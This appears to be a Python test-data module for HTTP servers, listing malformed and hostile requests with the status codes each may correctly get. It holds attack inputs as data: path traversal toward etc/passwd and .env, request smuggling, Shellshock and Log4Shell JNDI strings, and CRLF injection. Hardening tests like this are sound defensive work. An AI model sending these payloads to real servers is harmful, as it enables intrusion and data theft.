"""Requests that nobody sends by accident, each with the answers that are right for it.

A row is what it is, its bytes, and the statuses it may get. Where a row may get 200, it is a
request after all: HTTP allows it, or it is a name like any other.
"""

from collections.abc import Iterator
from dataclasses import dataclass

REFUSED = frozenset({400})
MISSING = frozenset({400, 403, 404})
OK = frozenset({200})


@dataclass(frozen=True)
class Row:
    name: str
    data: bytes
    allowed: frozenset[int]


def request(
    line: bytes,
    *fields: bytes,
    host: bytes = b"Host: here",
    end: bytes = b"\r\n",
    body: bytes = b"",
) -> bytes:
    head = (line, *filter(None, (host,)), b"Connection: close", *fields)
    return b"".join(part + end for part in head) + end + body


def get(path: bytes, *fields: bytes) -> bytes:
    return request(b"GET " + path + b" HTTP/1.1", *fields)


UNFINISHED = frozenset({0, 400})  # no line has ended, so there may be no answer
VERSION = frozenset({400, 505})
# mod_wsgi has handed on what came before, and has a 500 of its own then; nobody waits for it.
BROKEN_OFF = frozenset({400, 413, 500})

LINES: list[tuple[bytes, frozenset[int]]] = [
    (b"GET /echo HTTP/1.1", OK),
    (b"GET /echo HTTP/1.0", OK),
    (b"GET /echo HTTP/1.2", OK),  # a minor version may be higher (RFC 9110, 2.5)
    (b"\r\n\r\nGET /echo HTTP/1.1", OK),  # empty lines before it are to be ignored (RFC 9112, 2.2)
    (b"GET http://here/echo HTTP/1.1", OK),
    (b"GET http://elsewhere/echo HTTP/1.1", OK),  # its host counts, not the field (RFC 9112, 3.2.2)
    (b"GET HTTP://here/echo HTTP/1.1", OK),
    (b"GET https://here/echo HTTP/1.1", OK | REFUSED),
    (b"GET http://here:80/echo HTTP/1.1", OK),
    (b"GET http://user:password@here/echo HTTP/1.1", OK | REFUSED),
    (b"GET ftp://here/echo HTTP/1.1", REFUSED),
    (b"GET file:///etc/passwd HTTP/1.1", REFUSED),
    (b"GET gopher://here/ HTTP/1.1", REFUSED),
    (b"GET javascript:alert(1) HTTP/1.1", REFUSED),
    (b"GET http:// HTTP/1.1", OK | REFUSED),  # Apache takes no path for /
    (b"GET http://[::1 HTTP/1.1", REFUSED),
    (b"GET http://here:99999/echo HTTP/1.1", REFUSED | OK),
    (b"GET http://here:port/echo HTTP/1.1", REFUSED),
    (b"GET //elsewhere/echo HTTP/1.1", MISSING),
    (b"GET /echo HTTP/0.9", VERSION),
    (b"GET /echo HTTP/2.0", OK | VERSION),  # answered as HTTP/1.1
    (b"GET /echo HTTP/3.0", VERSION),
    (b"GET /echo HTTP/9.9", VERSION),
    (b"GET /echo HTTP/10.1", REFUSED),
    (b"GET /echo HTTP/1.10", REFUSED),
    (b"GET /echo HTTP/-1.1", REFUSED),
    (b"GET /echo HTTP/1,1", REFUSED),
    (b"GET /echo HTTP/1", REFUSED),
    (b"GET /echo HTTP/", REFUSED),
    (b"GET /echo http/1.1", REFUSED),
    (b"GET /echo HTTPS/1.1", REFUSED),
    (b"GET /echo ICY/1.1", REFUSED),
    (b"GET /echo HTTP/1.1 HTTP/1.1", REFUSED),
    (b"GET /echo  HTTP/1.1", REFUSED),
    (b"GET  /echo HTTP/1.1", REFUSED),
    (b" GET /echo HTTP/1.1", REFUSED),
    (b"GET\t/echo\tHTTP/1.1", REFUSED),
    (b"GET /echo\tHTTP/1.1", REFUSED),
    (b"GET /echo\x0bHTTP/1.1", REFUSED),
    (b"GET /ec ho HTTP/1.1", REFUSED),
    (b"GET /echo HTTP/1.1 ", REFUSED),
    (b"GET /ec\rho HTTP/1.1", REFUSED),
    (b"GET /ec\x00ho HTTP/1.1", REFUSED),
    (b"GET /ec\x7fho HTTP/1.1", REFUSED),
    (b"GET /ec\x01ho HTTP/1.1", REFUSED),
    (b"GET echo HTTP/1.1", REFUSED),
    (b"GET ? HTTP/1.1", OK | REFUSED),  # no path again
    (b"GET # HTTP/1.1", REFUSED),
    (b"GET * HTTP/1.1", REFUSED | MISSING),
    (b"OPTIONS * HTTP/1.1", OK),  # of the server, not of a page (RFC 9110, 9.3.7)
    (b"GET  HTTP/1.1", REFUSED),
    (b"GET HTTP/1.1", REFUSED),
    (b"GET /echo", REFUSED),
    (b"GET", REFUSED),
    (b"/echo", REFUSED),
    (b"HTTP/1.1 200 OK", REFUSED),
    (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", REFUSED),  # TLS where there is none
    (b"PRI * HTTP/2.0", frozenset({400, 405, 505})),
    (b"\xff\xfe\xfd", REFUSED),
    (b"{}", REFUSED),
    (b"EHLO here", REFUSED),
    (b"SSH-2.0-OpenSSH", REFUSED),
    (b"GET http://" + b"a" * 64 + b"/echo HTTP/1.1", REFUSED),
    (b"GET http://.here/echo HTTP/1.1", REFUSED),
    (b"GET http://a..b/echo HTTP/1.1", REFUSED),
    (b"GET http://h\xc3\xa9re/echo HTTP/1.1", REFUSED),
    (b"GET http://%68ere/echo HTTP/1.1", OK | REFUSED),
    (b"GET /echo#fragment HTTP/1.1", REFUSED | OK),
    (b"GET /echo?" + b"a" * 8192 + b" HTTP/1.1", frozenset({414})),
    (b"GET /echo?" + b"a" * 100_000 + b" HTTP/1.1", frozenset({414})),
    (b"A" * 9000 + b" / HTTP/1.1", frozenset({414})),
    (b"A" * 9000, frozenset({414})),
]

# The application has no view for these; what Apache does not know at all is for it to refuse, too.
METHODS: list[tuple[bytes, frozenset[int]]] = [
    *[
        (name, frozenset({405}))
        for name in (
            b"TRACE TRACK DEBUG PROPFIND PROPPATCH MKCOL COPY MOVE LOCK UNLOCK SEARCH REPORT PURGE BAN "
            b"LINK UNLINK INVALID FOO X-Y M!#$%&'*+-.^_`|~ QUERY BREW VERSION-CONTROL MERGE"
        ).split()
    ],
    (b"get", OK),  # to Werkzeug they are GET
    (b"Get", OK),
    (b"HEAD", OK),
    (b"OPTIONS", OK),
    (b"CONNECT", frozenset({400, 404, 405})),
    (b"A" * 200, frozenset({405})),
    (b"GE\x00T", REFUSED),
    (b"GE(T", REFUSED),
    (b"GE/T", REFUSED),
    (b"GE\xc3\xa9T", REFUSED),
    (b'"GET"', REFUSED),
    (b"GET:", REFUSED),
    (b"G,T", REFUSED),
]

FIELDS: list[tuple[bytes, frozenset[int]]] = [
    (b"No colon", REFUSED),
    (b"nocolon", REFUSED),
    (b": no name", REFUSED),
    (b"Space-Before : colon", REFUSED),
    (b"Tab-Before\t: colon", REFUSED),
    (b" Space: first", REFUSED | OK),  # folded to the field before (obs-fold)
    (b"Two Words: x", REFUSED),
    (b"N\x00ul: x", REFUSED),
    (b"Nul: a\x00b", REFUSED),
    (b"Bell: a\x07b", REFUSED),
    (b"Escape: a\x1b[31mb", REFUSED),
    (b"Delete: a\x7fb", REFUSED),
    (b"Return: a\rb", REFUSED),
    (b"Vertical: a\x0bb", REFUSED),
    (b"Form: a\x0cb", REFUSED),
    (b"N\xc3\xa4me: x", REFUSED),
    (b"(Name): x", REFUSED),
    (b"Na/me: x", REFUSED),
    (b"Na@me: x", REFUSED),
    (b"Na[me]: x", REFUSED),
    (b'"Name": x', REFUSED),
    (b"Name;x: x", REFUSED),
    (b"Empty:", OK),
    (b"Tab: a\tb", OK),
    (b"Latin: \xe9\xff", OK),
    (b"Utf: \xc3\xa9\xf0\x9f\x98\x80", OK),
    (b"Under_score: x", OK),
    (b"Long: " + b"a" * 32_000, OK),
    (b"Long: " + b"a" * 33_000, REFUSED),
    (b"Long: " + b"a" * 200_000, REFUSED),
    (b"L" * 33_000 + b": a", REFUSED),
    (b"\r\n".join(b"Many-%d: x" % number for number in range(97)), OK),
    (b"\r\n".join(b"Many-%d: x" % number for number in range(101)), REFUSED),
    (b"\r\n".join(b"Many-%d: x" % number for number in range(5000)), REFUSED),
    (b"Expect: miracles", frozenset({417})),
    (b"Upgrade: websocket\r\nSec-WebSocket-Version: 13", OK),
    (b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__", OK),
    (b"Proxy: http://elsewhere/", OK),  # https://httpoxy.org
    (b"Cookie: " + b"a=b; " * 1500, OK),
    (b"Cookie: " + b"a" * 8200, frozenset({431})),
    (b"User-Agent: " + b"\xff" * 32_000, frozenset({431})),
    (b'Cookie: =; ;; a; =b; \xff=\xff; "="', OK),
    (b"Authorization: Basic \xff\xff", REFUSED),
    (b"Authorization: Basic ====", OK),
    (b"Authorization: Digest nonsense", OK),
    (b"Authorization:", OK),
    (b"Range: bytes=-", OK),
    (b"Range: bytes=9-1", OK),
    (b"Range: lines=\xff", OK),
    (b"If-Modified-Since: \xff yesterday", OK),
    (b'If-None-Match: "a', OK),
    # As many ETags of compressed answers as fit, in every field that Apache edits or matches.
    (b"Accept-Encoding: br\r\nIf-None-Match: " + b'-br"' * 8000, OK),
    (b"Accept-Encoding: gzip\r\nIf-None-Match: " + b'-gzip"' * 5300, OK),
    (b"If-Match: \xff", OK | frozenset({412})),
    (b"Accept: ;;;,,,/;q=x", OK),
    (b"Accept: " + b"a/b;q=0.1," * 900, OK),
    (b"Accept-Language: \xff;q=\xff", OK),
    (b"Accept-Encoding: \xff, gzip;q=x", OK),
    (b"Cache-Control: =,=,\xff", OK),
    (b"User-Agent: () { :; }; echo vulnerable", OK),
    (b"User-Agent: ${jndi:ldap://elsewhere/a}", OK),
    (b"X-Forwarded-For: \xff\x80, ::::, 999.999.999.999", OK),
    (b"X-Forwarded-Host: elsewhere", OK),
    (b"X-Forwarded-Proto: javascript", OK),
    (b"Forwarded: for=;by=;host=\xff", OK),
    (b"Transfer-Encoding: chunked\r\nTrailer: Host", BROKEN_OFF),  # and then no body
]

HOSTS: list[tuple[bytes, frozenset[int]]] = [
    (b"Host: here:80", OK),
    (b"Host: [::1]", OK),
    (b"Host: 127.0.0.1:1", OK),
    (b"Host: HERE.", OK),
    (b"", REFUSED),
    (b"Host:", OK | REFUSED),  # allowed where there is none (RFC 9112, 3.2)
    (b"Host: a b", REFUSED),
    (b"Host: here\r\nHost: elsewhere", REFUSED),
    (b"Host: here\r\nHost: here", REFUSED),
    (b"Host: here, elsewhere", REFUSED),
    (b"Host: here/elsewhere", REFUSED),
    (b"Host: user@here", REFUSED),
    (b"Host: http://here", REFUSED),
    (b"Host: here:port", REFUSED),
    (b"Host: here:99999", REFUSED),
    (b"Host: here:-1", REFUSED),
    (b"Host: here:80:80", REFUSED),
    (b"Host: [::1", REFUSED),
    (b"Host: ::1", REFUSED),
    (b"Host: [here]", REFUSED),
    (b"Host: <script>", REFUSED),
    (b"Host: here\"'", REFUSED),
    (b"Host: h\xc3\xa9re", REFUSED),
    (b"Host: here\\elsewhere", REFUSED),
    (b"Host: here?x", REFUSED),
    (b"Host: here#x", REFUSED),
    (b"Host: %68ere", REFUSED),
    (b"Host: ..", REFUSED),
    (b"Host: a..b", REFUSED),
    (b"Host: .here", REFUSED),
    (b"Host: .", REFUSED),
    (b"Host: -", OK | REFUSED),
    (b"Host: xn--a-\xff", REFUSED),
    (b"Host: [::1%25lo]", REFUSED),
    (b"Host: 1.2.3.4.5", OK | REFUSED),
    (b"Host: " + b"a" * 63, OK),
    (b"Host: " + b"a" * 64, REFUSED),  # no part of a name is longer (RFC 1035, 2.3.4)
    (b"Host: " + b"a." * 500, OK | REFUSED),
]

# Ways to write "..", "/" and both, as servers have been fooled.
UP = [
    *(b"../", b"%2e%2e/", b"%2E%2E/", b".%2e/", b"%2e./", b"..%2f", b"..%2F", b"%2e%2e%2f"),
    *(b"..\\", b"..%5c", b"%2e%2e%5c", b"..%5C", b"..;/", b"..%3b/", b"..%00/", b"..%0d/"),
    *(b"%252e%252e/", b"%252e%252e%252f", b"..%252f", b"..%255c", b"%25%32%65%25%32%65/"),
    *(b"%c0%ae%c0%ae/", b"%c0%ae%c0%ae%c0%af", b"..%c0%af", b"..%c1%9c", b"..%e0%80%af"),
    *(
        b"..%ef%bc%8f",
        b"%uff0e%uff0e/",
        b"%u002e%u002e/",
        b"..%u2215",
        b".../",
        b"....//",
        b"./../",
    ),
    *(b".//..//", b"/../", b"//../", b"%2f../", b"..%2f%2f", b"\xc0\xae\xc0\xae/", b"..%09/"),
]
SECRETS = [b"views.py", b".env", b"pyproject.toml", b"etc/passwd"]
BEGINNINGS = [b"/static/", b"/", b"/.errors/", b"/echo/"]

PATHS: list[tuple[bytes, frozenset[int]]] = [
    (b"/static/.env", MISSING),
    (b"/static/.hidden/file", MISSING),
    (b"/static/%2eenv", MISSING),
    (b"/static//.env", MISSING),
    (b"/static/style.css~", MISSING),
    (b"/static/style.css.bak", MISSING),
    (b"/static/style.css.save.1", MISSING),
    (b"/static/style.css.dpkg-old", MISSING),
    (b"/static/style.css___jb_tmp___", MISSING),
    (b"/static/%23style.css%23", MISSING),
    (b"/static/style.css/", MISSING),
    (b"/static/style.css/x", MISSING),
    (b"/static/style.css%00", MISSING),
    (b"/static/style.css%00.png", MISSING),
    (b"/static/style.css%20", MISSING),
    (b"/static/style.css.", MISSING),
    (b"/static/style.css::$DATA", MISSING),
    (b"/static/STYLE.CSS", MISSING),
    (b"/static", MISSING | frozenset({301})),
    (b"/static/", MISSING),
    (b"/static%2fstyle.css", MISSING),
    (b"/static/link", MISSING),
    (b"/static/link/passwd", MISSING),
    (b"/.errors/404.var", MISSING),
    (b"/.errors/", MISSING),
    (b"/.git/config", MISSING),
    (b"/.env", MISSING),
    (b"/views.py", MISSING),
    (b"/handler.wsgi", MISSING),
    (b"/hello_flask.wsgi", MISSING),
    (b"/server-status", MISSING),
    (b"/server-info", MISSING),
    (b"/cgi-bin/", MISSING),
    (b"/icons/", MISSING),
    (b"/%zz", REFUSED),
    (b"/%", REFUSED),
    (b"/%0", REFUSED),
    (b"/%00", MISSING),
    (b"/echo/%00", MISSING),
    (b"/echo/a%0d%0aX-Injected:%20yes", MISSING | OK),
    (b"/echo/%ff", OK),
    (b"/echo/%c3%28", OK),
    (b"/echo/%ed%a0%80", OK),
    (b"/echo/%f4%90%80%80", OK),
    (b"/echo/%c0%80", OK),
    (b"/echo/%e2%80%ae", OK),
    (b"/echo/%f0%9f%98%80", OK),
    (b"/echo/a%2fb", MISSING | OK),
    (b"/echo/\xff\xfe", OK | REFUSED),
    (b"/echo/" + b"a/" * 3000, OK | MISSING),  # longer than a path of the file system
    (b"/echo/" + b"%41" * 2600, OK),
    (b"/echo?a=%ff&%ff=b&%00=%00", OK),
    (b"/echo?%", OK),
    (b"/echo?%zz=%u0041", OK),
    (b"/echo?" + b"&" * 4000, OK),
    (b"/echo?" + b"a=b&" * 1900, OK),
    (b"/echo?a[]=1&a[b]=2&__proto__=x", OK),
    (b"/echo?\xff=\xfe", OK | REFUSED),
    (b"/echo?a=%0d%0aSet-Cookie:%20x=y", OK),
    (b"/static/style.css?v=../../../../etc/passwd", OK),
    (b"/static/style.css?v=0123456789abcdef", OK),
    (b"/static/style.css?v=%00", OK),
    (b"/static/style.css?" + b"v=" * 4000, OK),
    (b"/go?next=//elsewhere", frozenset({302})),
]

SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: here\r\n\r\n"
CHUNKS = b"0\r\n\r\n" + SMUGGLED
# Two opinions about where the body ends. Nothing after it may be taken for a request.
BOUNDARIES: list[tuple[bytes, bytes, frozenset[int]]] = [
    (b"Content-Length: 5\r\nTransfer-Encoding: chunked", CHUNKS, OK | REFUSED),
    (b"Transfer-Encoding: chunked\r\nContent-Length: 5", CHUNKS, OK | REFUSED),
    (b"Content-Length: 0\r\nTransfer-Encoding: chunked", CHUNKS, OK | REFUSED),
    (b"Content-Length: 5\r\nContent-Length: 6", SMUGGLED, REFUSED),
    (b"Content-Length: 0\r\nContent-Length: 39", SMUGGLED, REFUSED),
    (b"Content-Length: 39\r\nContent-Length: 0", SMUGGLED, REFUSED),
    (b"Content-Length: 39, 0", SMUGGLED, REFUSED),
    (b"Content-Length: 0, 0", SMUGGLED, REFUSED),
    (b"Content-Length: -1", SMUGGLED, REFUSED),
    (b"Content-Length: +5", SMUGGLED, REFUSED),
    (b"Content-Length: 0x5", SMUGGLED, REFUSED),
    (b"Content-Length: 5 5", SMUGGLED, REFUSED),
    (b"Content-Length: 5.0", SMUGGLED, REFUSED),
    (b"Content-Length: 1e1", SMUGGLED, REFUSED),
    (b"Content-Length: five", SMUGGLED, REFUSED),
    (b"Content-Length: \xd9\xa5", SMUGGLED, REFUSED),
    (b"Content-Length:", SMUGGLED, REFUSED),
    (b"Content-Length: 99999999999999999999999", SMUGGLED, frozenset({400, 413})),
    (b"Content-Length: 9223372036854775807", SMUGGLED, frozenset({400, 413})),
    (b"Content-Length : 39", SMUGGLED, REFUSED),
    (b"Content_Length: 39", SMUGGLED, OK),
    *(
        (field, CHUNKS, frozenset({400, 501}))
        for field in (
            b"Transfer-Encoding : chunked",
            b"Transfer-Encoding: xchunked",
            b"Transfer-Encoding: chunked, identity",
            b"Transfer-Encoding: identity",
            b"Transfer-Encoding: gzip, chunked",
            b"Transfer-Encoding: gzip",
            b"Transfer-Encoding: chunked, chunked",
            b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
            b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
            b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
            b"Transfer-Encoding: \x0bchunked",
            b"Transfer-Encoding: \x00chunked",
            b"Transfer-Encoding: chunked\x00",
            b'Transfer-Encoding: "chunked"',
            b"Transfer-Encoding: chunked;q=1",
            b"Transfer-Encoding: chu\xc3\xb1ked",
            b"Transfer-Encoding:",
            b"Transfer-Encoding: ,",
            b"Transfer-Encoding\r\n: chunked",
            b"X: y\r\n Transfer-Encoding: chunked\r\nTransfer-Encoding: nonsense",
        )
    ),
    (b"Transfer-Encoding: Chunked", CHUNKS, OK),
    (b"Transfer-Encoding:\tchunked", CHUNKS, OK),
    (b"Transfer-Encoding: chunked ", CHUNKS, OK),
    (b"Transfer_Encoding: chunked", CHUNKS, OK),
    *(
        (b"Transfer-Encoding: chunked", chunks + CHUNKS, REFUSED)
        for chunks in (
            b"5\r\nhelloX\r\n",
            b"-5\r\nhello\r\n",
            b"+5\r\nhello\r\n",
            b"0x5\r\nhello\r\n",
            b"5 5\r\nhello\r\n",
            b"five\r\nhello\r\n",
            b"\r\nhello\r\n",
            b"5\x00\r\nhello\r\n",
            b"5\nhello\n",
        )
    ),
    (b"Transfer-Encoding: chunked", b"ffffffffffffffff0\r\nhello\r\n" + CHUNKS, BROKEN_OFF),
    (b"Transfer-Encoding: chunked", b"ffffffffffffff0\r\nhello\r\n" + CHUNKS, BROKEN_OFF),
    (b"Transfer-Encoding: chunked", b"5;extension=\xff\r\nhello\r\n" + CHUNKS, OK),
    (b"Transfer-Encoding: chunked", b"0\r\nTrailer: x\r\n\r\n" + SMUGGLED, OK),
    (b"Transfer-Encoding: chunked", b"0\r\nbroken trailer\r\n\r\n" + SMUGGLED, BROKEN_OFF),
]

BODIES: list[tuple[bytes, bytes, frozenset[int]]] = [
    (b"application/x-www-form-urlencoded", b"a=%ff&%=b&\xff=\xfe&%00", OK),
    (b"application/x-www-form-urlencoded; charset=nonsense", b"a=\xff", OK),
    (b"application/json", b"{" * 5000, OK),
    (b"application/json", b"\xff\xfe{}", OK),
    (b"application/json; charset=\xff", b"{}", OK),
    (b"application/json", b"1" * 5000, OK),
    (b"multipart/form-data", b"--x\r\n\r\n", OK),
    (b"multipart/form-data; boundary=", b"--\r\n\r\n", OK),
    (b"multipart/form-data; boundary=\xff", b"--\xff\r\n\r\n", OK),
    (
        b"multipart/form-data; boundary=x",
        b"--x\r\nContent-Disposition: form-data\r\n\r\n\r\n--x--",
        OK,
    ),
    (b"multipart/form-data; boundary=x", b"--x\r\nnonsense\r\n\r\n--x--\r\n", OK),
    (
        b"multipart/form-data; boundary=x",
        b'--x\r\nContent-Disposition: form-data; name="f"; filename="../../\x00"\r\n\r\n\r\n--x--',
        OK,
    ),
    (b"multipart/form-data; boundary=x", b"--x\r\n\r\n" * 2000, frozenset({200, 413})),
    (b"\xff/\x80; =;;", b"a", OK),
]


def rows() -> Iterator[Row]:
    for line, allowed in LINES:
        yield Row(f"line {line[:60]!r}", request(line), allowed)
    for method, allowed in METHODS:
        yield Row(f"method {method[:60]!r}", request(method + b" / HTTP/1.1"), allowed)
    for method in (b"DELETE", b"PUT", b"PATCH", b"PROPFIND", b"FOO"):
        line = method + b" /static/style.css HTTP/1.1"
        yield Row(f"file {method!r}", request(line), frozenset({405, 501}))
    for field, allowed in FIELDS:
        yield Row(f"field {field[:60]!r}", get(b"/echo", field), allowed)
    for host, allowed in HOSTS:
        yield Row(f"host {host!r}", request(b"GET /echo HTTP/1.1", host=host), allowed)
    yield Row("bare LF", request(b"GET /echo HTTP/1.1", end=b"\n"), OK | REFUSED)
    yield Row("bare CR", request(b"GET /echo HTTP/1.1", end=b"\r"), UNFINISHED)
    for start in BEGINNINGS:
        for up in UP:
            for secret in SECRETS:
                # To the application a path is a text like any other.
                allowed = MISSING | (OK if start == b"/echo/" else frozenset())
                path = start + up * 8 + secret
                yield Row(f"path {path!r}", get(path), allowed)
    for path, allowed in PATHS:
        yield Row(f"path {path[:60]!r}", get(path), allowed)
    for field, body, allowed in BOUNDARIES:
        name = f"boundary {field!r} {body[:20]!r}"
        yield Row(name, request(b"POST /echo HTTP/1.1", field, body=body), allowed)
        kept = request(b"POST /echo HTTP/1.1", field, body=body)
        kept = kept.replace(b"Connection: close", b"Connection: keep-alive")
        yield Row(f"kept {name}", kept, allowed)
    for kind, body, allowed in BODIES:
        fields = (b"Content-Type: " + kind, b"Content-Length: %d" % len(body))
        data = request(b"POST /echo HTTP/1.1", *fields, body=body)
        yield Row(f"body {kind!r} {body[:30]!r}", data, allowed)
